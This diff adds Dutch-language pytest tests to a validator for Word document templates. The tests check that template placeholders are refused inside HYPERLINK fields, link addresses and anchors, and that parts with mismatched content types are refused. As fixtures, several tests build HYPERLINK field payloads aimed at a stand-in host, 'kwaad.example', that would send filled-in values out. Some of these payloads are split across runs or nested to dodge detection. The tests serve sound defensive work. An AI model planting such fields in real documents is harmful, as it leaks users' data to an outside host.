@@ -168,6 +168,111 @@ def test_een_word_veld_dat_iets_ophaalt_wordt_geweigerd() -> None:
     ]
 
 
+_T = "<w:t>{{ kenmerk }}</w:t>"
+_BEGIN, _MIDDEN, _EIND = (
+    f'<w:fldChar w:fldCharType="{soort}"/>' for soort in ("begin", "separate", "end")
+)
+
+
+def _opdracht(tekst: str) -> str:
+    return f"<w:instrText>{tekst}</w:instrText>"
+
+
+@pytest.mark.asvs("1.3.7")
+@pytest.mark.parametrize(
+    "stuk",
+    [
+        _opdracht('HYPERLINK "https://kwaad.example/{{ kenmerk }}"'),
+        _opdracht("HYPERLINK https://kwaad.example/{") + _opdracht("{ kenmerk }}"),
+        _BEGIN + _opdracht("HYPERLINK https://kwaad.example/") + _T + _MIDDEN + _EIND,
+        _BEGIN
+        + _opdracht("HYPERLINK https://kwaad.example/")
+        + f"{_BEGIN}{_opdracht('REF naam')}{_MIDDEN}{_EIND}{_MIDDEN}{_EIND}",
+        '<w:fldSimple w:instr="HYPERLINK https://kwaad.example/{ kenmerk }"/>',
+        _BEGIN
+        + _opdracht("HYPERLINK https://kwaad.example/")
+        + f'<w:fldSimple w:instr="REF naam"/>{_MIDDEN}{_EIND}',
+        "<w:delInstrText>HYPERLINK { kenmerk }</w:delInstrText>",
+    ],
+    ids=["heel", "in stukken", "tekst", "veld", "eenvoudig", "eenvoudig erin", "verwijderd"],
+)
+def test_een_invulplek_in_een_word_veld_wordt_geweigerd_met_de_plek(stuk: str) -> None:
+    """A link would carry what is filled in to its address."""
+    inhoud = met_deel(word("Tekst"), "word/document.xml", "<w:r>", f"<w:r>{stuk}</w:r><w:r>")
+
+    assert list(fouten(inhoud)) == [
+        "In de tekst staat een invulplek in het Word-veld HYPERLINK. "
+        "Een invulplek kan alleen in de gewone tekst."
+    ]
+
+
+def test_een_veld_naast_een_invulplek_mag() -> None:
+    stuk = f"{_BEGIN}{_opdracht(' PAGE ')}{_MIDDEN}<w:t>1</w:t>{_EIND}{_T}"
+    stuk += f"{_BEGIN}{_opdracht('HYPERLINK https://huis.example')}{_MIDDEN}{_T}{_EIND}"
+    inhoud = met_deel(word("Tekst"), "word/document.xml", "<w:r>", f"<w:r>{stuk}</w:r><w:r>")
+
+    assert list(toets(inhoud, SOORT)) == ["kenmerk"]
+
+
+@pytest.mark.asvs("1.3.7")
+@pytest.mark.parametrize("plek", ["{{ kenmerk }}", "%7B%7Bkenmerk%7D%7D"])
+def test_een_link_met_een_invulplek_in_het_adres_wordt_geweigerd(plek: str) -> None:
+    link = _BUITEN.format("hyperlink").replace("/x", f"/{plek}")
+    inhoud = met_deel(word("Tekst"), "word/_rels/document.xml.rels", _REL, link + _REL)
+
+    assert list(fouten(inhoud)) == [
+        "In het adres van een link staat een invulplek. "
+        "Een invulplek kan alleen in de gewone tekst."
+    ]
+
+
+@pytest.mark.asvs("1.3.7")
+def test_een_invulplek_in_een_kenmerk_van_een_link_wordt_geweigerd() -> None:
+    stuk = '<w:hyperlink w:anchor="{{ kenmerk }}"/><w:r>'
+    inhoud = met_deel(word("Tekst"), "word/document.xml", "<w:r>", stuk)
+
+    assert "In de tekst staat een invulplek in een link" in fouten(inhoud)[0]
+
+
+_SOORT = "</Types>"
+_TEKST = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
+
+
+@pytest.mark.asvs("5.2.2")
+@pytest.mark.parametrize(
+    ("naam", "soort"),
+    [
+        ("word/stuk.html", '<Default Extension="html" ContentType="text/html"/>'),
+        ("word/stuk.png", f'<Override PartName="/word/stuk.png" ContentType="{_TEKST}"/>'),
+        ("word/stuk.png", f'<Override PartName="/WORD/stuk.PNG" ContentType="{_TEKST}"/>'),
+        ("word/stuk.gif", ""),
+        ("word/stuk", f'<Override PartName="/word/stuk" ContentType="{_TEKST}"/>'),
+        ("word/stuk.xml", '<Override PartName="/word/stuk.xml" ContentType="text/html"/>'),
+    ],
+    ids=["extensie", "xml als plaatje", "hoofdletters", "zonder soort", "geen extensie", "soort"],
+)
+def test_een_stuk_van_een_andere_soort_wordt_geweigerd_met_zijn_naam(naam: str, soort: str) -> None:
+    """What has another extension isn't looked through, while Word may read it as text."""
+    inhoud = met_deel(word("Tekst"), "[Content_Types].xml", _SOORT, soort + _SOORT)
+
+    assert list(fouten(met_deel(inhoud, naam, "", "<x/>"))) == [
+        f"Dit stuk van het bestand hoort niet in een sjabloon: {naam}. Sla het opnieuw op met Word."
+    ]
+
+
+def test_een_stuk_met_een_extensie_in_hoofdletters_wordt_ook_nagekeken() -> None:
+    inhoud = met_deel(word("Tekst"), "word/stuk.XML", "", "<!DOCTYPE x><x/>")
+
+    assert "beschadigd" in fouten(inhoud)[0]
+
+
+def test_een_plaatje_in_het_bestand_mag() -> None:
+    soort = '<Default Extension="PNG" ContentType="image/png"/>'
+    inhoud = met_deel(word("Tekst"), "[Content_Types].xml", _SOORT, soort + _SOORT)
+
+    assert list(toets(met_deel(inhoud, "word/media/logo.png", "", "x"), SOORT)) == []
+
+
 def test_een_stuk_dat_een_ander_bestand_binnenhaalt_wordt_geweigerd() -> None:
     stuk = '<w:altChunk w:id="r9"/><w:sectPr'
     inhoud = met_deel(word("Tekst"), "word/document.xml", "<w:sectPr", stuk)
